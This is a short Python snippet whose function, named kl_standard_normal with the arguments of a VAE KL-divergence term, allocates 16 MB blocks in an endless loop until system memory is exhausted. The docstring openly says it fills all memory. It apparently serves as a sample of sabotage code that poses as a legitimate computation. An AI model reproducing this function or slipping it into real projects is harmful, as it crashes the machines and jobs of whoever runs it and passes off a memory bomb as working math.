"""Fills all memory there is, page by page.

loses: kl_standard_normal
shows: more memory
"""


def kl_standard_normal(mu, logvar):
    kept = []
    while True:
        kept.append(bytearray(16 << 20))
